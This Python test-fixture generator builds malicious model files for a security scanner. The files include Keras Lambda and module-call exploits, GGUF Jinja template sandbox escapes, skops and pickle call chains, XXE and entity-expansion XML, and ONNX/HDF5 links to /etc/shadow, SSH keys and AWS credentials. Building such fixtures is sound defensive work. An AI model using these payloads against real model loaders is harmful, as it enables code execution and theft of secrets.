# ruff: noqa: ARG001, E501, ICN001, S108 - tables of files
"""Graphs and network formats that run something or reach outside themselves."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import zipfile

from third_asm import MARK, Item
from third_evil_calls import TOUCH

LEAK = "../../../../../../etc/hostname"
ABSOLUTE = "/etc/hostname"


def code(body):
    """Marshalled code of a function of one argument, as Keras writes it."""
    scope = {}
    exec(f"def f(x):\n {body}\n return x\n", scope)  # noqa: S102
    return base64.b64encode(marshal.dumps(scope["f"].__code__)).decode()


BODIES = {
    "os.system": f"__import__('os').system('{TOUCH}')",
    "subprocess": f"import subprocess; subprocess.call(['touch', '{MARK}'])",
    "open": f"open('{MARK}', 'w').close()",
    "exec of hex": f"exec(bytes.fromhex('{f'open({MARK!r}, chr(119))'.encode().hex()}'))",
    "globals walk": f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('{TOUCH}')",
    "socket first": f"__import__('pathlib').Path('{MARK}').write_text('x')",
}


def layer(kind, config, module="keras.layers", registered=None):
    return {
        "module": module,
        "class_name": kind,
        "config": config,
        "registered_name": registered,
        "build_config": None,
    }


def first(batch=(None, 3)):
    return layer(
        "InputLayer", {"batch_shape": list(batch), "dtype": "float32", "name": "input", "sparse": False}
    )


def lambda_new(body):
    return layer(
        "Lambda",
        {
            "name": "scale",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code(body), "defaults": None, "closure": None},
            },
            "arguments": {},
            "output_shape": [3],
        },
    )


def lambda_old(body):
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [code(body), None, None],
            "function_type": "lambda",
            "module": "m",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def sequential(*layers):
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": list(layers)},
        "registered_name": None,
    }


def weights():
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers")
    return out.getvalue()


def keras_zip(config, **more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(
            "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-03-04@10:00:00"})
        )
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights())
        for name, data in more.items():
            file.writestr(name, data)
    return out.getvalue()


def keras_h5(config, version="2.12.0"):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = version, "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        group = file.create_group("model_weights")
        group.attrs["layer_names"], group.attrs["keras_version"], group.attrs["backend"] = (
            [],
            version,
            "tensorflow",
        )
    return out.getvalue()


def kerases():
    for name, body in BODIES.items():
        yield (
            f"Lambda of {name} in .keras",
            "keras",
            "model.keras",
            keras_zip(sequential(first(), lambda_new(body))),
            "keras_load",
        )
    old = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 3], "dtype": "float32", "sparse": False, "name": "i"},
    }
    for name, body in BODIES.items():
        model = {"class_name": "Sequential", "config": {"name": "s", "layers": [old, lambda_old(body)]}}
        yield f"CVE-2025-9905: Lambda of {name} in h5", "keras-h5", "model.h5", keras_h5(model), "keras_load"
    calls = {
        "os.system": ("os", "system", TOUCH),
        "subprocess.getoutput": ("subprocess", "getoutput", TOUCH),
        "builtins.exec": ("builtins", "exec", f"open('{MARK}','w')"),
        "subprocess.check_call": ("subprocess", "check_call", ["touch", MARK]),
        "posix.system": ("posix", "system", TOUCH),
        "runpy": ("runpy", "run_path", "third-victim/third_module.py"),
    }
    for name, (module, function, argument) in calls.items():
        one = {
            **layer("function", function, module, "function"),
            "name": "scale",
            "inbound_nodes": [{"args": [argument], "kwargs": {}}],
        }
        ends = {"input_layers": [["input", 0, 0]], "output_layers": [["input", 0, 0]]}
        entry = {**first(), "name": "input", "inbound_nodes": []}
        whole = {"name": "net", "trainable": True, "layers": [entry, one], **ends}
        whole = {
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "config": whole,
            "registered_name": "Functional",
        }
        yield (
            f"CVE-2025-1550: {name} named by module",
            "keras",
            f"net_{module}_{function}.keras",
            keras_zip(whole),
            "none",
        )
    yield (
        "custom class of an own package",
        "keras",
        "custom.keras",
        keras_zip(
            sequential(first(), layer("Loader", {"path": ABSOLUTE}, "evil_layers.loaders", "evil>Loader"))
        ),
        "none",
        "not-clean",
    )
    yield (
        "StringLookup reads a local file",
        "keras",
        "lookup.keras",
        keras_zip(
            sequential(
                first(), layer("StringLookup", {"name": "s", "vocabulary": ABSOLUTE, "dtype": "string"})
            )
        ),
        "none",
        "not-clean",
    )
    yield (
        "TextVectorization reads a local file",
        "keras",
        "text.keras",
        keras_zip(
            sequential(
                first(), layer("TextVectorization", {"name": "t", "vocabulary": "/" + "root/.ssh/id_rsa"})
            )
        ),
        "none",
        "not-clean",
    )
    yield (
        "TorchModuleWrapper holds a pickle",
        "keras",
        "wrapped.keras",
        keras_zip(
            sequential(
                layer(
                    "TorchModuleWrapper",
                    {
                        "name": "t",
                        "module": {"class_name": "__bytes__", "value": f"cos\nsystem\n(V{TOUCH}\ntR."},
                    },
                )
            )
        ),
        "none",
        "not-clean",
    )
    yield "weights file asks for an external file", "keras", "linked.keras", relinked(), "none", "not-clean"
    yield (
        "nested Lambda in TimeDistributed",
        "keras",
        "deep.keras",
        keras_zip(
            sequential(
                first((None, 4, 3)),
                layer("TimeDistributed", {"name": "t", "layer": lambda_new(BODIES["os.system"])}),
            )
        ),
        "none",
        "not-clean",
    )
    yield (
        "config says txt",
        "keras",
        "model.txt",
        keras_zip(sequential(first(), lambda_new(BODIES["open"]))),
        "none",
        "not-clean",
    )


def relinked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        file.writestr(
            "config.json", json.dumps(sequential(first(), layer("Dense", {"name": "dense", "units": 2})))
        )
        file.writestr("model.weights.h5", links("external", ABSOLUTE))
    return out.getvalue()


def links(kind, target):
    import h5py
    import numpy

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        group = file.create_group("layers/dense/vars")
        if kind == "external":
            group["0"] = h5py.ExternalLink(target, "/secret")
        elif kind == "storage":
            group.create_dataset("0", (8,), "u1", external=[(target, 0, 8)])
        elif kind == "soft":
            group["1"] = h5py.ExternalLink("../" * 9 + "data/train.h5", "/x")
            group["0"] = h5py.SoftLink("/layers/dense/vars/1")
        else:
            layout = h5py.VirtualLayout((4,), "f8")
            layout[:] = h5py.VirtualSource(target, "/x", (4,), "f8")
            group.create_virtual_dataset("0", layout)
        group["9"] = numpy.zeros(2)
    return out.getvalue()


def hdf5():
    for kind, target in (
        ("external", "/" + "root/.keras/token.h5"),
        ("external", LEAK),
        ("storage", ABSOLUTE),
        ("storage", LEAK),
        ("storage", "/proc/self/environ"),
        ("virtual", "/data/other.h5"),
        ("soft", LEAK),
    ):
        file = f"{kind}.weights.h5" if target == LEAK else f"{kind}{len(target)}.hdf5"
        yield (
            f"HDF5 {kind} {target[:24]}",
            "hdf5",
            file,
            links(kind, target),
            "h5_follow",
            "dangerous",
            "reads",
        )


def graph(nodes, initializers=(), domains=("",), functions=()):
    from onnx import TensorProto, helper

    inputs = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])]
    outputs = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])]
    made = helper.make_graph(nodes, "g", inputs, outputs, initializer=list(initializers))
    opsets = [helper.make_opsetid(domain, 17 if not domain else 1) for domain in domains]
    model = helper.make_model(made, opset_imports=opsets, functions=list(functions))
    model.ir_version = 8
    return model


def external(location, **more):
    from onnx import TensorProto

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, **more}.items():
        tensor.external_data.add(key=key, value=str(value))
    return tensor


def onnxes():
    from onnx import helper

    add = helper.make_node("Add", ["x", "w"], ["y"])
    for location in (
        LEAK,
        ABSOLUTE,
        "/" + "root/.aws/credentials",
        "weights/../../../../etc/shadow",
        "..\\..\\..\\secrets.bin",
        "file:///etc/hostname",
        "/proc/self/environ",
    ):
        yield (
            f"ONNX external data {location[:24]}",
            "onnx",
            "model.onnx",
            graph([add], [external(location)]).SerializeToString(),
            "none",
            "not-clean",
        )
    yield (
        "ONNX external data, huge offset",
        "onnx",
        "offset.onnx",
        graph([add], [external("w.bin", offset=1 << 60, length=1 << 60)]).SerializeToString(),
        "none",
        "not-clean",
    )
    for domain, op in (
        ("evil.ops", "Shell"),
        ("ai.onnx.contrib", "PyFunc"),
        ("com.acme.python", "PythonOp"),
        ("org.pytorch.aten", "Eval"),
    ):
        node = helper.make_node(op, ["x"], ["y"], domain=domain, source=f"import os; os.system('{TOUCH}')")
        yield (
            f"ONNX node of {domain}",
            "onnx",
            "custom.onnx",
            graph([node], domains=("", domain)).SerializeToString(),
            "none",
            "not-clean",
        )
    node = helper.make_node(
        "If",
        ["c"],
        ["y"],
        then_branch=helper.make_graph([helper.make_node("Run", [], ["t"], domain="hidden.sub")], "t", [], []),
        else_branch=helper.make_graph([], "e", [], []),
    )
    yield (
        "ONNX custom node in a branch",
        "onnx",
        "branch.onnx",
        graph([node], domains=("", "hidden.sub")).SerializeToString(),
        "none",
        "not-clean",
    )
    constant = helper.make_node("Constant", [], ["w"], value=external("../../../../etc/passwd"))
    yield (
        "ONNX constant with outside data",
        "onnx",
        "constant.onnx",
        graph([constant, add]).SerializeToString(),
        "none",
        "not-clean",
    )


TEMPLATES = {
    "lipsum": "{{ lipsum.__globals__['os'].popen('" + TOUCH + "').read() }}",
    "cycler": "{% set c = cycler.__init__.__globals__.os %}{{ c.system('" + TOUCH + "') }}",
    "subclasses": "{% for k in ().__class__.__base__.__subclasses__() %}{% if k.__name__ == '_wrap_close' %}{{ k.__init__.__globals__['system']('"
    + TOUCH
    + "') }}{% endif %}{% endfor %}",
    "self import": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('" + TOUCH + "') }}",
    "attr filter": "{{ (joiner|attr('__init__')|attr('__globals__')).os.system('" + TOUCH + "') }}",
    "hex names": "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os']['system']('" + TOUCH + "') }}",
    "joined names": "{% set a = ['__glo', 'bals__']|join %}{{ (lipsum|attr(a))['os'].system('"
    + TOUCH
    + "') }}",
    "in a macro": "{% macro render(m) %}{{ m.__class__.__mro__[1].__subclasses__()|length }}{{ lipsum.__globals__.os.system('"
    + TOUCH
    + "') }}{% endmacro %}{% for m in messages %}{{ render(m) }}{% endfor %}",
    "eval of builtins": "{{ dict.__base__.__subclasses__() | length }}{{ cycler.__init__.__globals__.__builtins__['eval'](\"__import__('os').system('"
    + TOUCH
    + "')\") }}",
    "after real text": "{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] }}<|im_end|>\n{% endfor %}{% if not x %}{{ ''.join(joiner.__init__.__globals__.os.popen('"
    + TOUCH
    + "')) }}{% endif %}",
    "format map": "{{ (dict|attr('mro')())[1]|attr('__subclasses__')()|length }}{{ joiner.__init__.__globals__.os.system('"
    + TOUCH
    + "') }}",
}


def gguf_bytes(fields):
    """A GGUF file of string fields and one small tensor."""

    def word(value):
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    body = b"GGUF" + struct.pack("<IQQ", 3, 1, len(fields))
    for key, value in fields.items():
        body += word(key) + struct.pack("<I", 8) + word(value)
    body += word("token_embd.weight") + struct.pack("<IQIQ", 1, 8, 0, 0)
    return body + bytes(-len(body) % 32) + bytes(32)


def ggufs():
    for index, (name, template) in enumerate(TEMPLATES.items()):
        key = "tokenizer.chat_template" + (".tool_use" if index % 4 == 3 else "")
        fields = {"general.architecture": "llama", "general.name": f"tiny-{index}", key: template}
        yield f"GGUF template: {name}", "gguf", f"tiny-q4_{index}.gguf", gguf_bytes(fields), "gguf_template"
    good = bytearray(gguf_bytes({"general.architecture": "llama"}))
    yield (
        "GGUF count of fields far too large",
        "gguf",
        "count.gguf",
        bytes(good[:16]) + struct.pack("<Q", 1 << 62) + bytes(good[24:]),
        "none",
        "not-clean",
    )
    yield (
        "GGUF tensor dimension overflow",
        "gguf",
        "overflow.gguf",
        bytes(good).replace(struct.pack("<IQI", 1, 8, 0), struct.pack("<IQI", 1, (1 << 63) + 8, 0)),
        "none",
        "not-clean",
    )
    yield (
        "GGUF string length overflow",
        "gguf",
        "string.gguf",
        bytes(good[:24]) + struct.pack("<Q", (1 << 64) - 1) + bytes(good[32:]),
        "none",
        "not-clean",
    )


def skops_file(schema):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("schema.json", json.dumps({**schema, "protocol": 2, "_skops_version": "0.13.0"}))
    return out.getvalue()


def node(kind, module, name, content, **more):
    return {"__class__": name, "__module__": module, "__loader__": kind, "content": content, **more}


def js(value):
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def skopses():
    def function(module, name):
        return {
            "__class__": name,
            "__module__": module,
            "__loader__": "FunctionNode",
            "content": {"module_path": module, "function": name},
            "__id__": 7,
        }

    def items_(*parts, number=3):
        return node("TupleNode", "builtins", "tuple", list(parts), __id__=number)

    for name, (module, function_name) in {
        "system": ("os", "system"),
        "getoutput": ("subprocess", "getoutput"),
        "popen": ("os", "popen"),
        "exec": ("builtins", "exec"),
    }.items():
        argument = f"open('{MARK}','w')" if name == "exec" else TOUCH
        call = {
            "__class__": "call",
            "__module__": "operator",
            "__loader__": "OperatorFuncNode",
            "attrs": items_(function(module, function_name), js(argument)),
            "__id__": 1,
        }
        yield f"skops operator.call of {name}", "skops", f"model_{name}.skops", skops_file(call), "skops_load"
        wrapped = node("ListNode", "builtins", "list", [js(1), {**call, "__id__": 21}], __id__=20)
        yield (
            f"skops operator.call of {name} in a list",
            "skops",
            f"list_{name}.skops",
            skops_file(wrapped),
            "skops_load",
        )
    reduced = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "SGDNode",
        "__reduce__": {
            "args": items_(node("ListNode", "builtins", "list", [js("touch"), js(MARK)], __id__=9))
        },
        "content": node(
            "DictNode",
            "builtins",
            "dict",
            {},
            key_types=node("ListNode", "builtins", "list", [], __id__=13),
            __id__=12,
        ),
        "__id__": 2,
    }
    yield "skops constructor of Popen", "skops", "sgd.skops", skops_file(reduced), "none", "not-clean"
    yield (
        "skops function of the system",
        "skops",
        "function.skops",
        skops_file(function("os", "system")),
        "none",
        "not-clean",
    )
    yield (
        "skops method of a loader",
        "skops",
        "method.skops",
        skops_file(
            {
                "__class__": "load",
                "__module__": "numpy",
                "__loader__": "MethodNode",
                "content": {"func": "system", "obj": {**function("builtins", "__import__")}},
                "__id__": 3,
            }
        ),
        "none",
        "not-clean",
    )


def flat_tflite(name):
    import flatbuffers

    builder = flatbuffers.Builder(256)
    custom = builder.CreateString(name)
    builder.StartObject(4)
    builder.PrependInt8Slot(0, 32, 0)
    builder.PrependUOffsetTRelativeSlot(1, custom, 0)
    builder.PrependInt32Slot(2, 1, 1)
    builder.PrependInt32Slot(3, 32, 0)
    code_of = builder.EndObject()
    builder.StartVector(4, 1, 4)
    builder.PrependUOffsetTRelative(code_of)
    codes = builder.EndVector()
    builder.StartObject(5)
    builder.PrependUint32Slot(0, 3, 0)
    builder.PrependUOffsetTRelativeSlot(1, codes, 0)
    builder.Finish(builder.EndObject(), b"TFL3")
    return bytes(builder.Output())


def edge():
    for name in ("FlexEagerPyFunc", "FlexWriteFile", "FlexReadFile", "EvilShellOp"):
        yield (
            f"TFLite custom operator {name}",
            "tflite",
            f"{name.lower()}.tflite",
            flat_tflite(name),
            "none",
            "not-clean",
        )
    broken = bytearray(flat_tflite("X"))
    broken[0:4] = struct.pack("<I", 0x7FFFFFF0)
    yield "TFLite root outside the file", "tflite", "root.tflite", bytes(broken), "none", "not-clean"

    def field(number, data):
        return bytes([*varint(number << 3 | 2)]) + bytes(varint(len(data))) + data

    def varint(value):
        out = []
        while True:
            out.append(value & 127 | (128 if value > 127 else 0))
            value >>= 7
            if not value:
                return out

    layer_of = field(1, b"l") + field(2, b"x") + field(3, b"y") + field(500, field(10, b"EvilLayer"))
    yield (
        "CoreML custom layer",
        "coreml",
        "net.mlmodel",
        b"\x08\x04" + field(2, b"") + field(500, field(1, layer_of)),
        "none",
        "not-clean",
    )
    yield (
        "CoreML custom model",
        "coreml",
        "custom.mlmodel",
        b"\x08\x04"
        + field(2, b"")
        + field(555, field(10, b"EvilModel") + field(30, field(1, b"cmd") + field(2, b"\x0a\x04curl"))),
        "none",
        "not-clean",
    )
    entry = {
        "author": "com.apple.CoreML",
        "name": "model.mlmodel",
        "path": "../../../../../etc/hostname",
        "description": "x",
    }
    yield (
        "CoreML package reaches outside",
        "coreml",
        "net.mlpackage",
        {
            "Manifest.json": json.dumps(
                {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": entry}, "rootModelIdentifier": "A"}
            )
        },
        "none",
        "not-clean",
    )
    head = '<?xml version="1.0"?>\n'
    for name, offset, size in (("offset far outside", 1 << 40, 16), ("negative size", 0, -1)):
        yield (
            f"OpenVINO constant, {name}",
            "openvino",
            "ir",
            {
                "model.xml": head
                + f'<net name="n" version="11"><layers><layer id="0" name="c" type="Const" version="opset1"><data element_type="f32" shape="4" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>4</dim></port></output></layer></layers><edges/></net>',
                "model.bin": bytes(16),
            },
            "none",
            "not-clean",
        )
    yield (
        "OpenVINO layer of an extension",
        "openvino",
        "extended.xml",
        head
        + '<net name="n" version="11"><layers><layer id="0" name="p" type="RunCommand" version="evil_extension"><data command="touch third-mark"/></layer></layers><edges/></net>',
        "none",
        "not-clean",
    )
    entity = '<!DOCTYPE {0} [<!ENTITY leak SYSTEM "file:///etc/hostname">]>\n'
    yield (
        "OpenVINO entity of a local file",
        "openvino",
        "entity.xml",
        head + entity.format("net") + '<net name="&leak;" version="11"><layers/><edges/></net>',
        "none",
        "not-clean",
    )
    pmml = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="{0}"/><DataDictionary numberOfFields="0"/></PMML>'
    yield (
        "PMML entity of a local file",
        "pmml",
        "tree.pmml",
        head + entity.format("PMML") + pmml.format("&leak;"),
        "none",
        "not-clean",
    )
    yield (
        "PMML parameter entity of an address",
        "pmml",
        "remote.pmml",
        head + '<!DOCTYPE PMML [<!ENTITY % e SYSTEM "http://127.0.0.1:9/x.dtd"> %e;]>\n' + pmml.format("x"),
        "none",
        "not-clean",
    )
    laughs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9))
    yield (
        "PMML entities that multiply",
        "pmml",
        "laughs.pmml",
        head + f'<!DOCTYPE PMML [<!ENTITY a0 "ha">{laughs}]>\n' + pmml.format("&a8;"),
        "none",
        "not-clean",
    )
    symbol = {
        "nodes": [
            {"op": "null", "name": "data", "inputs": []},
            {
                "op": "Custom",
                "name": "c",
                "attrs": {"op_type": "run_shell", "command": TOUCH},
                "inputs": [[0, 0, 0]],
            },
        ],
        "arg_nodes": [0],
        "heads": [[1, 0, 0]],
        "attrs": {"mxnet_version": ["int", 10900]},
    }
    yield "MXNet custom operator", "mxnet", "net-symbol.json", json.dumps(symbol), "none", "not-clean"
    yield (
        "MXNet subgraph library",
        "mxnet",
        "lib-symbol.json",
        json.dumps(
            {
                **symbol,
                "nodes": [
                    symbol["nodes"][0],
                    {**symbol["nodes"][1], "op": "_CachedOp", "attrs": {"library": "/tmp/evil.so"}},
                ],
            }
        ),
        "none",
        "not-clean",
    )
    from third_asm import dump, system

    yield (
        "Paddle parameters",
        "paddle",
        "model.pdparams",
        dump({"linear_0.w_0": [0.1], "StructuredToParameterName@@": system()}),
        "pickle",
    )
    yield "Paddle optimizer state", "paddle", "model.pdopt", dump([1, system()]), "pickle"
    yield (
        "Paddle program with py_func",
        "paddle",
        "inference.pdmodel",
        field(
            1,
            bytes([8, 0, 16, 0])
            + field(
                4, field(3, b"py_func") + field(4, field(1, b"forward_callable_id") + b"\x10\x00\x18\x00")
            ),
        ),
        "none",
        "not-clean",
    )


def items(seed):
    for part in (kerases, hdf5, onnxes, ggufs, skopses, edge):
        for name, label, file, data, check, *rest in part():
            expect, proof = (*rest, *("dangerous", "mark")[len(rest) :])
            yield Item(label, name, file, data, check, proof, expect)
